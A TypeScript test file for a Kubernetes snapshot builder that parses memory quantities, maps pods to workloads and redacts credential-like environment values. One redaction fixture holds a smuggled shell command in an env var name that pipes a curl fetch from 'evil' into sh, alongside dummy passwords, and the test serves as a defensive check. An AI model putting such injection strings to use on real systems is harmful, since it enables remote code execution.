import type * as k8s from "@kubernetes/client-node";
import { describe, expect, it } from "vitest";
import { parseQuantityBytes } from "@/lib/kube/quantity";
import { buildSnapshot, ENV_FROM_REFERENCE, ENV_REDACTED, type KubeObjects } from "@/lib/kube/snapshot";
import { ingestBatchSchema } from "@/lib/schemas/ingest";

const Mi = 1024 * 1024;
const owned = (kind: string, name: string) => [{ apiVersion: "apps/v1", kind, name, controller: true, uid: `uid-${name}` }];
const meta = (name: string, ownerReferences?: ReturnType<typeof owned>) => ({ name, namespace: "shop", uid: `uid-${name}`, ...(ownerReferences ? { ownerReferences } : {}) });

// real-shaped v1 objects, as `kubectl get -o json` prints them (the fields this reads)
const template = {
  spec: {
    volumes: [{ name: "cache", emptyDir: { medium: "Memory", sizeLimit: "256Mi" } }, { name: "scratch", emptyDir: { medium: "Memory" } }, { name: "disk", emptyDir: {} }],
    initContainers: [
      { name: "migrate", image: "shop:1.4", command: ["./migrate"], resources: { limits: { memory: "128Mi" } } },
      { name: "log-shipper", image: "fluent-bit:3", restartPolicy: "Always", resources: { requests: { memory: "32Mi" }, limits: { memory: "64Mi" } } },
    ],
    containers: [
      {
        name: "app", image: "eclipse-temurin:21", command: ["java"], args: ["-Xmx400m", "-jar", "app.jar"],
        env: [
          { name: "JAVA_OPTS", value: "-XX:+UseG1GC" },
          { name: "DB_PASSWORD", value: "hunter2" },
          { name: "API_TOKEN", valueFrom: { secretKeyRef: { name: "shop", key: "token" } } },
          { name: "POD_IP", valueFrom: { fieldRef: { fieldPath: "status.podIP" } } },
        ],
        resources: { requests: { memory: "256Mi" }, limits: { memory: "512Mi" } },
        volumeMounts: [{ name: "cache", mountPath: "/cache" }, { name: "disk", mountPath: "/tmp" }],
      },
      { name: "proxy", image: "envoy:1.30", volumeMounts: [{ name: "scratch", mountPath: "/dev/shm" }] },
    ],
  },
};
const running = { phase: "Running", startTime: "2026-11-29T09:00:00Z" };

const objects: KubeObjects = {
  deployments: [{ metadata: meta("shop"), spec: { replicas: 3, template } }],
  replicaSets: [
    { metadata: meta("shop-6f7c9", owned("Deployment", "shop")), spec: { replicas: 3, template } },
    { metadata: meta("legacy-5d4c3"), spec: { replicas: 2, template: { spec: { containers: [{ name: "web", image: "nginx" }] } } } },
  ],
  statefulSets: [{ metadata: meta("db"), spec: { replicas: 1, template: { spec: { containers: [{ name: "postgres", image: "postgres:17", resources: { limits: { memory: "2Gi" } } }] } } } }],
  daemonSets: [{ metadata: meta("agent"), spec: { template: { spec: { containers: [{ name: "agent" }] } } }, status: { desiredNumberScheduled: 5 } }],
  cronJobs: [{ metadata: meta("nightly"), spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: "report", resources: { limits: { memory: "1G" } } }] } } } } } }],
  jobs: [
    { metadata: meta("nightly-2911", owned("CronJob", "nightly")), spec: { template: { spec: { containers: [{ name: "report" }] } } } },
    { metadata: meta("backfill"), spec: { parallelism: 4, template: { spec: { containers: [{ name: "worker" }] } } } },
  ],
  pods: [
    { metadata: meta("shop-6f7c9-abcde", owned("ReplicaSet", "shop-6f7c9")), spec: { nodeName: "node-1", ...template.spec, containers: [...template.spec.containers, { name: "istio-proxy", image: "istio/proxyv2", resources: { limits: { memory: "1Gi" } } }] }, status: running },
    { metadata: meta("nightly-2911-xyz", owned("Job", "nightly-2911")), spec: { nodeName: "node-2" }, status: { phase: "Succeeded" } },
    { metadata: meta("db-0", owned("StatefulSet", "db")), spec: { nodeName: "node-1" }, status: running },
    { metadata: meta("debug"), spec: { containers: [{ name: "sh", image: "busybox", resources: { limits: { memory: "64Mi" } } }] }, status: { phase: "Pending" } },
    // a ReplicaSet created after the list was read: the pod stands under it until the next list
    { metadata: meta("shop-8a8a8-fghij", owned("ReplicaSet", "shop-8a8a8")), spec: { containers: [{ name: "app" }] }, status: running },
  ],
  nodes: [
    {
      metadata: { name: "node-1", labels: { "node.kubernetes.io/instance-type": "m6i.xlarge" } },
      status: { capacity: { memory: "16203844Ki" }, allocatable: { memory: "15052868Ki" }, conditions: [{ type: "MemoryPressure", status: "False" }, { type: "Ready", status: "True" }] },
    },
    { metadata: { name: "node-2", labels: { "beta.kubernetes.io/instance-type": "e2-standard-4" } }, status: { allocatable: { memory: "14Gi" }, conditions: [{ type: "MemoryPressure", status: "True" }] } },
  ],
};

// the client library's own types fit the builder (the agent and the server's direct mode pass them as listed)
export const typedLists: KubeObjects = {
  pods: [] as k8s.V1Pod[], replicaSets: [] as k8s.V1ReplicaSet[], deployments: [] as k8s.V1Deployment[], statefulSets: [] as k8s.V1StatefulSet[],
  daemonSets: [] as k8s.V1DaemonSet[], jobs: [] as k8s.V1Job[], cronJobs: [] as k8s.V1CronJob[], nodes: [] as k8s.V1Node[],
};

describe("Kubernetes memory quantities", () => {
  it.each([
    ["512Mi", 512 * Mi], ["1Gi", 1024 * Mi], ["1G", 1e9], ["500M", 5e8], ["129e6", 129e6], ["0.5Gi", 512 * Mi], ["128974848", 128974848],
    ["16203844Ki", 16203844 * 1024], ["1500m", 2], [268435456, 268435456],
  ] as const)("%s → %d bytes", (q, bytes) => expect(parseQuantityBytes(q)).toBe(bytes));
  it.each(["", "lots", "12 Mi", "1.2.3Gi", "-1Gi", "1Zi"])("%j is not a memory quantity", (q) => expect(parseQuantityBytes(q)).toBeNull());
  it("absent is null", () => expect(parseQuantityBytes(undefined)).toBeNull());
});

describe("the inventory snapshot", () => {
  const snap = buildSnapshot(objects, { complete: true });
  const workload = (kind: string, name: string) => snap.workloads.find((w) => w.kind === kind && w.name === name);

  it("resolves each pod to its workload: ReplicaSet → Deployment, Job → CronJob, StatefulSet directly, a bare pod as itself", () => {
    expect(snap.pods.map((p) => `${p.name} ${p.workloadKind}/${p.workloadName} ${p.node ?? "-"} ${p.phase}`)).toEqual([
      "shop-6f7c9-abcde Deployment/shop node-1 Running",
      "nightly-2911-xyz CronJob/nightly node-2 Succeeded",
      "db-0 StatefulSet/db node-1 Running",
      "debug Pod/debug - Pending",
      "shop-8a8a8-fghij ReplicaSet/shop-8a8a8 - Running",
    ]);
    expect(snap.pods[0]).toMatchObject({ uid: "uid-shop-6f7c9-abcde", namespace: "shop", startedAt: "2026-11-29T09:00:00Z" });
  });

  it("lists each workload once with its replicas; ReplicaSets and Jobs under a Deployment or CronJob are not workloads of their own", () => {
    expect(snap.workloads.map((w) => `${w.kind}/${w.name}:${w.replicas}`).sort()).toEqual(
      ["CronJob/nightly:1", "DaemonSet/agent:5", "Deployment/shop:3", "Job/backfill:4", "Pod/debug:1", "ReplicaSet/legacy-5d4c3:2", "ReplicaSet/shop-8a8a8:1", "StatefulSet/db:1"],
    );
  });

  it("records containers as what they are: init, native sidecar (restartPolicy Always), main, and a webhook-injected one from the pod", () => {
    expect(workload("Deployment", "shop")!.containers.map((c) => `${c.name}:${c.kind}`)).toEqual(["migrate:init", "log-shipper:sidecar", "app:main", "proxy:main", "istio-proxy:main"]);
  });

  it("carries image, command, args, memory in bytes and the memory-backed emptyDirs each container mounts", () => {
    const shop = workload("Deployment", "shop")!;
    const app = shop.containers.find((c) => c.name === "app")!;
    expect(app).toMatchObject({ image: "eclipse-temurin:21", command: ["java"], args: ["-Xmx400m", "-jar", "app.jar"], requestBytes: 256 * Mi, limitBytes: 512 * Mi });
    // the disk-backed emptyDir is not memory; /cache's tmpfs has a size limit, /dev/shm's none
    expect(app.memoryVolumes).toEqual([{ name: "cache", sizeLimitBytes: 256 * Mi, mountPath: "/cache" }]);
    expect(shop.containers.find((c) => c.name === "proxy")!.memoryVolumes).toEqual([{ name: "scratch", sizeLimitBytes: null, mountPath: "/dev/shm" }]);
    expect(shop.containers.find((c) => c.name === "proxy")).toMatchObject({ requestBytes: null, limitBytes: null, command: null, env: null });
    expect(workload("CronJob", "nightly")!.containers[0]).toMatchObject({ name: "report", limitBytes: 1e9 });
    expect(workload("Pod", "debug")!.containers[0]).toMatchObject({ name: "sh", limitBytes: 64 * Mi });
  });

  it("sends plain env values only: a value from a reference is a marker, a credential-looking plain value is redacted", () => {
    const env = workload("Deployment", "shop")!.containers.find((c) => c.name === "app")!.env;
    expect(env).toEqual({ JAVA_OPTS: "-XX:+UseG1GC", DB_PASSWORD: ENV_REDACTED, API_TOKEN: ENV_FROM_REFERENCE, POD_IP: ENV_FROM_REFERENCE });
    expect(JSON.stringify(snap)).not.toContain("hunter2");
  });

  it("redacts values that carry a credential whatever their name, and drops names that are not identifiers", () => {
    const spec = { containers: [{ name: "app", env: [
      { name: "DATABASE_URL", value: "postgres://app:s3cret@db:5432/shop" },
      { name: "JAVA_OPTS", value: "-Xmx4g -Ddb.password=s3cret" },
      { name: "SENTRY_DSN", value: "https://key@sentry.example/1" },
      { name: "DB_PASS", value: "s3cret" },
      { name: "JAVA_OPTS;curl${IFS}evil|sh;X", value: "-Xmx4g" },
      { name: "--server", value: "https://evil.example/-Xmx4g" },
      { name: "PLAIN_URL", value: "https://api.example.com/v1" },
    ] }] };
    const env = buildSnapshot({ pods: [{ metadata: { name: "p", namespace: "n", uid: "u" }, spec }] }, { complete: true }).workloads[0]!.containers[0]!.env;
    expect(env).toEqual({ DATABASE_URL: ENV_REDACTED, JAVA_OPTS: ENV_REDACTED, SENTRY_DSN: ENV_REDACTED, DB_PASS: ENV_REDACTED, PLAIN_URL: "https://api.example.com/v1" });
    expect(JSON.stringify(env)).not.toContain("s3cret");
  });

  it("records nodes: allocatable and capacity memory, memory pressure, instance type", () => {
    expect(snap.nodes).toEqual([
      { name: "node-1", allocatableMemoryBytes: 15052868 * 1024, capacityMemoryBytes: 16203844 * 1024, memoryPressure: false, instanceType: "m6i.xlarge" },
      { name: "node-2", allocatableMemoryBytes: 14 * 1024 * Mi, capacityMemoryBytes: null, memoryPressure: true, instanceType: "e2-standard-4" },
    ]);
  });

  it("is a valid ingest batch, and the ingest schema refuses what is out of bounds with the field's path", () => {
    expect(ingestBatchSchema.safeParse({ snapshot: snap }).success).toBe(true);
    const bad = (snapshot: unknown) => ingestBatchSchema.safeParse({ snapshot }).error?.issues.map((i) => i.path.join("."));
    expect(bad({ ...snap, pods: [{ ...snap.pods[0], namespace: "Not_A_Namespace" }] })).toEqual(["snapshot.pods.0.namespace"]);
    expect(bad({ ...snap, workloads: [{ ...snap.workloads[0], containers: [{ ...snap.workloads[0]!.containers[0], limitBytes: "512Mi" }] }] })).toEqual(["snapshot.workloads.0.containers.0.limitBytes"]);
    expect(bad({ ...snap, complete: "yes" })).toEqual(["snapshot.complete"]);
    const pods = Array.from({ length: 50_001 }, (_, i) => ({ ...snap.pods[0], uid: `u${i}` }));
    expect(bad({ ...snap, pods })).toEqual(["snapshot.pods"]);
    expect(bad({ ...snap, pods: pods.slice(0, 50_000) })).toBeUndefined();
  });
});

describe("workload labels in the snapshot", () => {
  it("come from the workload object's labels (valid ones, the first 64 by key), a bare pod's own, and none for an owner not read", () => {
    const many = Object.fromEntries(Array.from({ length: 70 }, (_, i) => [`k${String(i).padStart(2, "0")}`, "v"]));
    const s = buildSnapshot({
      deployments: [{ metadata: { ...meta("web"), labels: { team: "payments", "app.kubernetes.io/part-of": "shop", "-bad": "x", good: "-bad-value" } }, spec: { replicas: 1 } }],
      statefulSets: [{ metadata: { ...meta("db"), labels: many }, spec: { replicas: 1 } }],
      pods: [
        { metadata: { ...meta("bare"), labels: { team: "search" } } },
        { metadata: { ...meta("orphan-abc12", owned("ReplicaSet", "orphan-5d4c")), labels: { team: "growth" } } },
      ],
    } as KubeObjects, { complete: true });
    const labels = Object.fromEntries(s.workloads.map((w) => [`${w.kind}/${w.name}`, w.labels]));
    expect(labels["Deployment/web"]).toEqual({ "app.kubernetes.io/part-of": "shop", team: "payments" });
    expect(Object.keys(labels["StatefulSet/db"]!)).toEqual(Array.from({ length: 64 }, (_, i) => `k${String(i).padStart(2, "0")}`));
    expect(labels["Pod/bare"]).toEqual({ team: "search" });
    // the ReplicaSet was not listed: its labels are unknown (not the pod's), so the stored ones stand
    expect(Object.keys(labels)).toContain("ReplicaSet/orphan-5d4c");
    expect(labels["ReplicaSet/orphan-5d4c"]).toBeUndefined();
    expect(ingestBatchSchema.safeParse({ snapshot: s }).success).toBe(true);
  });
});
